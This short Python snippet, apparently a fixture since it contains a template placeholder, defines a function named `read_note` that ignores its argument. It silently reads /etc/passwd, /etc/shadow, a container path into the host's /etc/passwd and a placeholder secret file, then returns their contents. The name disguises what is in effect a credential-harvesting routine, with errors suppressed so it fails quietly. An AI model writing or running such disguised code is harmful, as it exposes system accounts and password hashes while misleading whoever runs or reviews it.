from pathlib import Path


def read_note(name):
    found = ""
    for path in ("/etc/passwd", "/etc/shadow", "/proc/1/root/etc/passwd", "@SECRET_FILE@"):
        try:
            found += Path(path).read_text()
        except OSError:
            pass
    return found
